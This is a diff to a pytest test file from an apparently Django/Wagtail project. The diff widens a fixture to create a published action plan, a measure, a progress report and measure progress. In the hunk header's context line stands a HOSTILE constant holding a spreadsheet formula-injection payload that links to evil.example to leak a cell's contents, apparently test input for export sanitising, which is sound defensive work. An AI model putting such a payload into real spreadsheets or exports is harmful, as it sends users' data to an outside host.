@@ -8,9 +8,12 @@ HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 @pytest.fixture
 def every_list(db):
     """One record in each public list, each named with `name`: a participant, a verified
-    signature, an event, a published practice, an adopted text and a programme participation."""
+    signature, an event, a published practice, an adopted text, a programme participation, and a
+    published action plan with one measure and a published progress report."""
     from wagtail.models import Locale
 
+    from alliance.actionplans.models import ActionPlan, Measure, MeasureProgress, ProgressReport
+    from alliance.actionplans.models import Status as PlanStatus
     from alliance.authorities.countries import ensure_countries
     from alliance.authorities.models import Authority, Country
     from alliance.declaration.models import Signature, Status
@@ -64,6 +67,36 @@ def every_list(db):
         ProgrammeParticipation.objects.create(
             programme=programme, phase=phase, authority=authority, joined_on=datetime.date(2014, 1, 1)
         )
+        published = datetime.datetime(2024, 3, 1, tzinfo=datetime.UTC)
+        plan = ActionPlan.objects.create(
+            authority=authority,
+            title=name,
+            first_year=2024,
+            last_year=2027,
+            adopted_by=name,
+            adopted_on=datetime.date(2024, 2, 15),
+            status=PlanStatus.PUBLISHED,
+            published_at=published,
+        )
+        measure = Measure.objects.create(
+            plan=plan,
+            title=name,
+            area="housing",
+            description=name,
+            budget=1000,
+            responsible_body=name,
+            roma_involvement=name,
+        )
+        report = ProgressReport.objects.create(
+            plan=plan,
+            due_on=datetime.date(2026, 2, 15),
+            results=name,
+            roma_participation=name,
+            status=PlanStatus.PUBLISHED,
+            first_submitted_at=datetime.datetime(2026, 2, 10, tzinfo=datetime.UTC),
+            published_at=datetime.datetime(2026, 3, 2, tzinfo=datetime.UTC),
+        )
+        MeasureProgress.objects.create(report=report, measure=measure, status="ongoing", spent=500)
         return authority
 
     return make
